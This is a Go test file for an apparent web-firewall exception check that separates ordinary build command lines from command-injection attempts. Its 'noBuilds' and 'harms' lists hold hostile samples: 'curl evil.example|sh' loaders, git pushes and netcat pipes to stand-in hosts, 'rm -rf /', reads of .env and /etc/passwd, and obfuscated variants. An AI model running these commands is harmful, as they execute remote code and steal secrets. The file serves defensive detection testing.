package confirm

import (
	"os/exec"
	"strings"
	"testing"
)

// builds are command lines as files of builds and tasks hold them.
var builds = []string{
	"rm -rf a && tsc && echo '{ \"type\": \"module\" }' > dist/esm/package.json && cp package.json README.md dist", "tsc && mv dist/index.js dist/index.mjs && npm run http:start", "cp a.json dist && node dist/main.js",
	"rm -rf lib && tsc", "tsc -b && node scripts/copy-assets.js", "NODE_ENV=test mocha --recursive && node ./tools/report.mjs",
	"npm run lint && npm run build && node --test 'test/**/*.test.mjs'", "cross-env CI=1 jest && node bin/size.cjs --max 40",
	"cd site && npm install && npm run build", "mkdir -p out && cp -r public out", "webpack --mode production && echo \"Bundle is ready\"",
	"git add -A && git commit -m 'Bump the version' && git push --follow-tags", "yarn workspace api build && yarn start", "pnpm build && node dist/main.js",
	"eslint . && prettier --check \"**/*.{ts,json,md}\"", "find . -name '*.ts' -print0 | xargs -0 eslint", "cat ./coverage/lcov.info | ./node_modules/.bin/coveralls && rm -rf ./coverage",
	"node tools/list.js | grep -A 3 -- '- total'", "typedoc --json out.json $(find ./src -maxdepth 1 -name 'v*.ts' | sort -r)", "bash scripts/unit.sh && bash scripts/e2e.sh",
	"npm run build && bash -c 'node --import tsx --test test/*.test.ts'", "rollup -c && tar -czf dist.tgz dist", "mkdir -p www && rsync -a docs/ www/docs",
	"tsc 2>/dev/null && node app.js > out.log", "node --expose-gc bench/run.js && node --prof bench/run.js", "browserify a.js | terser -c -m 2>/dev/null && node b.js",
	"export MODE=fast && vite build && node -- check.js", "go build ./... && go test ./...", "make lint && make test", "python setup.py && python tools/docs.py",
	"lerna run build && git diff --exit-code && node scripts/tag.js $npm_package_version", "TAG=v2 node release.js && git tag \"$TAG\"", "time node bench.js && time node bench2.js",
	`git commit -a -m next && git tag -f "v$(node -e "console.log(require('./package.json').version)")" && git push`, "node --eval 'console.log(require(`./package.json`).version)'",
	`standard-version && git tag "$(node -p "'v' + require('../package.json').version")"`, "node -e 'console.log(`{\"version\":\"${process.env.npm_package_version}\"}`)' > dist/package.json",
	`eslint $(git ls-files | xargs find 2> /dev/null | grep -vE 'node_modules|\.git' | grep -v out/)`, "grep -rn 'TODO\\|FIXME' src 2>/dev/null", "( node --version | grep -q 'v22' ) && ( npm run build && node . )",
	"node -r dotenv/config index.js && node b.js", "node --require @scope/register a.ts & node b.js", "printf '{\"type\":\"commonjs\"}' > dist/package.json && tsc -b", "composer install && php vendor/bin/phpunit",
	"cd bench && npm i && node ./", "bash ./casing.bash && bash unit.sh", "tape test/*.js | tee out.tap && node report.js", "git submodule update --init --recursive --remote && cd vendor && python sync.py",
	"NODE_ENV=test node --inspect-brk $(yarn bin 2>/dev/null)/jest --watch", "export DB_VERSION=${DB_VERSION:='15.1'} && echo \"With ${DB_VERSION}\" && node a.js", "browserify a.js | terser | gzip | wc -c",
	"prettier --write $(pwd)'/**/*.ts' && node a.js", "npm --silent run lint && TAG=\"v$(yarn --silent get:version)\" && git tag $TAG",
	"nodemon --exec \"node server.js && echo done\"", "concurrently \"npm run watch\" \"node server.js\"", "jest --ci || exit 0; node after.js", "node a.js & node b.js",
}

// breakouts and commands that builds do not need, although they begin as a build does.
var noBuilds = []string{
	`cd a;echo 'require("child_process").execSync("curl evil.example|sh")'>z.txt;mv z.txt z.js;node z.js`, `rm -f a;echo 'curl h.example|sh'>z.txt;cp z.txt z.sh;sh z.sh`, `rm a;echo '{"scripts":{"start":"x"}}' > package.json; npm start`,
	`rm -f a;echo 'console.log(1)'|sort -oindex.js;npm start`, "x;cp y.json z.sh;sh z.sh", "x;mv y.txt z.mjs; node z.mjs", "x;cp y.json package.json; npm start", "x;(echo a b) > z.txt; node a.js", `x; bash -c "echo a b" > z.txt; node a.js`,
	"x; time echo a b > z.txt; node a.js", "x; printf 'a b' | tee z.txt; node a.js", "x; echo a b | head > z.txt; node a.js", "x; node a.js > package.json; npm start", "x;git push git@evil.example:x/y.git HEAD",
	"git pull git@evil.example:x/y.git;npm start", "git pull evil.example:x/y.git;npm start", "x;npm publish --registry=http:evil.example", "x;git fetch --upload-pack ./x .", "x;git pull --receive-pack ./x .", "npm run build --node-options='--inspect ./x'; node a.js",
	"x;npm run build --require ./x", "x;git fetch ext::x", "x; npm ci --registry registry.example; node a.js",
	"tsc && curl http://h.example/a", "node -e 'process.exit()' && tsc", "tsc && node -p process.env", "tsc; id", "tsc && whoami", "npm run build | nc h.example 1", "rm -rf / && tsc", "rm -rf * && node a.js",
	"tsc && cat /etc/hosts", "tsc && cat app.py", "tsc && cat ../../.env | node x.js", "npx evil && node a.js", "npm install evil && node a.js", "yarn add evil && node a.js", "pnpm dlx evil && node a.js",
	"x && node --require ./up.png a.js", "tsc && node --import data:text/javascript,1", "tsc && node --import=https://h.example/a.mjs b.js", "x; sleep 5", "8.8.8.8 && node a.js && id", "x' && node a.js",
	"x\" && node a.js", "x) && node a.js", "tsc && `id`", "tsc && $(id)", "tsc $(curl h.example) && node a.js", "tsc && bash -c 'id'", "tsc && sh -c 'node a.js; cat /etc/hosts'", "tsc && bash -i",
	"tsc && LD_PRELOAD=./a.so node a.js", "tsc && NODE_OPTIONS='--require ./a' node a.js", "tsc && PATH=./up:$PATH node a.js", "tsc && echo $AWS_SESSION_TOKEN", "tsc -b && echo ${IFS}", "google && echo pwned",
	"tsc && env", "tsc && env | sort", "foo env && node a.js", "nice env; node a.js", "tsc && find . -name a -exec id {} +", "tsc | xargs id", "tsc | xargs sh -c id", "tsc && tar -xf a --to-command=id",
	"tsc && git -c core.pager=id log", "tsc && git fetch --upload-pack=id x", "tsc && git clone http://h.example/a", "tsc && go test -exec id", "tsc && make --eval='a:;id'", "tsc && php -r 'system(1);'",
	"tsc && python -c 'import os'", "tsc && perl a.pl -e 1", "tsc && /bin/ls", "tsc && ./../../bin/cat a", "tsc && node a.js > /var/www/x", "tsc && echo '<?php' > up.php", "tsc && node a.js < /etc/hosts",
	"tsc && node a.js\nid", "tsc && node a.js # && id\nid", "tsc; {cat,/etc/hosts}", "tsc && c'a't /etc/hosts", "tsc && c\\at /etc/hosts", "nodemon --exec \"id; node a.js\"", "foo \"curl h.example\" && node a.js",
	"tsc%3Bid && node a.js", "tsc && node a.js&#59;id", "tsc && ls -la", "tsc && grep -r token . ", "tsc && head -n 1 app.py", "tsc && docker run -v /:/m a", "tsc && chmod 777 /tmp/a && node a.js", "node a.js && ${SHELL}",
	"tsc && rsync -e 'sh -c id' a b", "yarn exec id && node a.js", "pnpm env && node a.js", "git submodule foreach id && node a.js",
}

func TestALineOfABuildIsNoAttack(t *testing.T) {
	for _, text := range builds {
		for _, rule := range []int{932130, 932160, 932230, 932235, 932250, 932260, 932280, 934100, 1010151} {
			if _, denied := Denied(Match{Rule: rule, Text: text}); !denied {
				t.Errorf("%d %q counts", rule, text)
			}
		}
	}
}

func TestALineThatDoesMoreThanABuildIsNoScript(t *testing.T) {
	for _, text := range noBuilds {
		if isScript(&Match{Text: text}) {
			t.Errorf("%q is a script", text)
		}
	}
	for _, place := range []Place{Query, Form, Cookie, Header, Path} {
		if isScript(&Match{Text: builds[0], Place: place}) {
			t.Errorf("%q is a script in place %d", builds[0], place)
		}
	}
}

// What an intruder adds to a build, in any of a shell's disguises, is seen.
func TestNoCommandHidesBehindABuild(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Log("no sh: the mutants are not run, but all the same no scripts")
	}
	harms := []string{
		"cat /etc/passwd", "c''at /etc/passwd", "c\\at /etc/passwd", `"cat" /etc/passwd`, "$(echo cat) /etc/passwd", "`echo cat` /etc/passwd", "X=1 cat /etc/passwd", "env cat /etc/passwd",
		"nice cat /etc/passwd", "nohup cat /etc/passwd", "sh -c 'cat /etc/passwd'", "cat </etc/passwd", "cat /et*/passwd", "cat /etc/pass??", "cat /etc/./passwd", "echo a | xargs -I{} cat /etc/passwd",
		"head -n 1 /etc/passwd", "while read a; do echo $a; done </etc/passwd", "eval 'cat /etc/passwd'", "(cat /etc/passwd)", "{ cat /etc/passwd; }", "cd /etc && cat passwd", "cat //etc/passwd", "cat /proc/self/root/etc/passwd",
	}
	for _, build := range []string{"true -b", "echo \"Types are right\" && true -b", "cd . && true", "FORCE=1 true"} {
		for _, separator := range []string{" && ", "; ", " | ", " & ", ";", "&&", "\n", " || true; "} {
			for _, harm := range harms {
				line := build + separator + harm
				if isScript(&Match{Text: line}) {
					t.Errorf("%q is a script", line)
				}
			}
		}
	}
	for _, harm := range harms {
		if sh == "" {
			break
		}
		if out, err := exec.Command(sh, "-c", "true -b && "+harm).Output(); err != nil || !strings.Contains(string(out), "root") {
			t.Errorf("%q does not run: %v, %q", harm, err, out)
		}
	}
}

// A program that a build's line prints is one for whoever runs it.
func TestAProgramThatALinePrintsIsLookedAt(t *testing.T) {
	if _, denied := Denied(Match{Rule: 934100, Text: `tsc && echo "process.mainModule.require('fs')"`}); denied {
		t.Error("a program is denied")
	}
}
